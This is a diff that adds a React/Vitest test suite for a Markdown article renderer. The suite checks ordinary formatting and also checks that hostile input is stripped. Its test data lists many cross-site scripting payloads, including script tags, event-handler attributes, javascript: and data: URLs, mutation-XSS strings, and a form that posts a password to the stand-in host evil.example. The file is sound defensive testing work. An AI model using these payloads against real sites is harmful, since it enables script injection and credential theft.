@@ -1,0 +1,167 @@
+import { render } from '@testing-library/react';
+import { StrictMode } from 'react';
+import { renderToString } from 'react-dom/server';
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
+import { ArticleBody } from '#ui/article-body.tsx';
+
+const ran = vi.fn();
+
+beforeEach(() => {
+  Object.assign(window, { ran });
+});
+
+afterEach(() => {
+  expect(ran).not.toHaveBeenCalled();
+});
+
+function body(text: string): Element {
+  const { container } = render(
+    <StrictMode>
+      <ArticleBody text={text} />
+    </StrictMode>,
+  );
+  return container.firstElementChild as Element;
+}
+
+/** Everything in the article that is not plain text. */
+const attributesOf = (element: Element) =>
+  [...element.querySelectorAll('*')].flatMap((each) =>
+    [...each.attributes].map(({ name, value }) => `${each.localName} ${name}=${value}`),
+  );
+const tagsOf = (element: Element) =>
+  [...element.querySelectorAll('*')].map((each) => each.localName);
+
+describe('Markdown', () => {
+  it('P-POST-14 shows newlines as line breaks', () => {
+    expect(body('Who is calling?\nWhat is the number?').innerHTML.trim()).toBe(
+      '<p>Who is calling?<br>What is the number?</p>',
+    );
+  });
+
+  it('keeps headings below the page’s title', () => {
+    const article = body('# One\n\n## Two\n\n<h1 class="x">Three</h1>\n\n### Four');
+    expect(tagsOf(article)).toEqual(['h2', 'h2', 'h2', 'h3']);
+    expect(article).toHaveTextContent(/One.*Two.*Three.*Four/);
+  });
+
+  it('knows lists, emphasis, links, tables and pictures', () => {
+    const article = body(
+      '- a\n- **b** and _c_\n\n[call](tel:+18015550142)\n\n| x | y |\n| - | -: |\n| 1 | 2 |\n\n![A road](/img/road.svg)',
+    );
+    expect(article.querySelectorAll('li')).toHaveLength(2);
+    expect(article.querySelector('strong')).toHaveTextContent('b');
+    expect(article.querySelector('em')).toHaveTextContent('c');
+    expect(article.querySelector('a')).toHaveAttribute('href', 'tel:+18015550142');
+    expect(article.querySelectorAll('td')[1]).toHaveAttribute('align', 'right');
+    expect(article.querySelector('img')).toHaveAttribute('loading', 'lazy');
+  });
+
+  it('shows code as it is written', () => {
+    expect(body('`<script>ran()</script>`')).toHaveTextContent('<script>ran()</script>');
+  });
+
+  it('keeps harmless HTML', () => {
+    const article = body(
+      '<table><tr><th scope="col">Day</th></tr></table><details><summary>More</summary>Text</details>',
+    );
+    expect(article.querySelector('th')).toHaveAttribute('scope', 'col');
+    expect(article.querySelector('details')).toHaveTextContent('MoreText');
+  });
+});
+
+describe('links', () => {
+  it.each([
+    'https://insurance.utah.gov/',
+    'http://example.com/a?b=c',
+    'mailto:front-desk@example.com',
+    'tel:+18015550142',
+    '/contact',
+    '#top',
+  ])('lead to %s', (address) => {
+    const [link] = body(`[there](${address})`).querySelectorAll('a');
+    expect(link).toHaveAttribute('href', address);
+    expect(link).toHaveAttribute('rel', 'noopener');
+  });
+
+  it.each([
+    'javascript:ran()',
+    'JaVaScRiPt:ran()',
+    'java&#115;cript:ran()',
+    'java&Tab;script:ran()',
+    '&#1;javascript:ran()',
+    'vbscript:ran()',
+    'data:text/html,<script>ran()</script>',
+    'blob:https://clinic.example/1',
+    'file:///etc/passwd',
+    'ftp://example.com/',
+    'sms:+18015550142',
+    'intent:x',
+    'h323:x',
+  ])('do not lead to %s', (address) => {
+    const article = body(`[a](${address})\n\n<a href="${address.replaceAll('"', '')}">b</a>`);
+    for (const link of article.querySelectorAll('a')) {
+      expect(link.getAttribute('href') ?? '').not.toMatch(/^\s*\w+:/);
+    }
+  });
+});
+
+describe('nothing runs or dresses up', () => {
+  it.each([
+    '<script>ran()</script>',
+    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+    '<scr<script>ipt>ran()</scr</script>ipt>',
+    '<img src=x onerror=ran()>',
+    '<img src="x` `<script>ran()</script>"` `>',
+    '<svg onload=ran()><circle /></svg>',
+    '<svg><script>ran()</script></svg>',
+    '<svg><a xlink:href="javascript:ran()"><text>x</text></a></svg>',
+    '<math><mi xlink:href="javascript:ran()">x</mi></math>',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
+    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>',
+    '<noscript><p title="</noscript><img src=x onerror=ran()>">',
+    '<iframe src="javascript:ran()"></iframe>',
+    '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
+    '<object data="javascript:ran()"></object><embed src="javascript:ran()">',
+    '<video><source onerror=ran()></video><audio src=x onerror=ran()>',
+    '<details open ontoggle=ran()><summary>x</summary></details>',
+    '<body onload=ran()><p onclick="ran()" onmouseover=ran()>x</p>',
+    '<a href="/" onclick="ran()" target="_blank" ping="https://evil.example">x</a>',
+    '<form action="https://evil.example"><input name="password"><button formaction="javascript:ran()">x</button></form>',
+    '<meta http-equiv="refresh" content="0;url=javascript:ran()"><base href="https://evil.example/">',
+    '<link rel="stylesheet" href="https://evil.example/x.css"><style>body{display:none}</style>',
+    '<div style="position:fixed;inset:0" class="fixed inset-0" id="root">x</div>',
+    '<img name="body" src="/x.png"><a name="cookie" id="cookie" href="/">x</a>',
+    '<template><img src=x onerror=ran()></template><slot name="x"></slot>',
+    '<x-widget onclick=ran() is="x-y">x</x-widget>',
+    '<p data-x="1" aria-hidden="true" tabindex="0" contenteditable role="button" accesskey="x">x</p>',
+    '<isindex type=image src=1 onerror=ran()>',
+    '<!--><img src=x onerror=ran()>-->',
+    '<![CDATA[<img src=x onerror=ran()>]]>',
+    '![x](x"onerror="ran\\(\\))',
+    '[x](/ "x\\" onmouseover=\\"ran\\(\\)")',
+    '<h1 onclick="ran()">x</h1>',
+    '<<h1 onclick=ran()>script>ran()</script>',
+  ])('in %s', (text) => {
+    const article = body(`Before\n\n${text}\n\nAfter`);
+    expect(article).toHaveTextContent('Before');
+    expect(tagsOf(article).filter((tag) => /[:-]/.test(tag))).toEqual([]);
+    expect(
+      article.querySelectorAll(
+        'script, style, link, meta, base, iframe, object, embed, svg, math, form, input, button, video, audio, source, template, slot, noscript, h1',
+      ),
+    ).toHaveLength(0);
+    expect(
+      attributesOf(article).filter(
+        (attribute) =>
+          !/^(a (href=(https?:|mailto:|tel:|[/#]|$)|rel=noopener$|title=)|img (src=|alt=|title=|loading=lazy$)|p title=|details open=)/.test(
+            attribute,
+          ),
+      ),
+    ).toEqual([]);
+  });
+});
+
+it('renders where there is no window, and shows nothing that nobody has checked', () => {
+  const text = '<img src=x onerror=ran()>';
+  expect(renderToString(<ArticleBody text={text} />)).toBe('<div class="prose"></div>');
+});
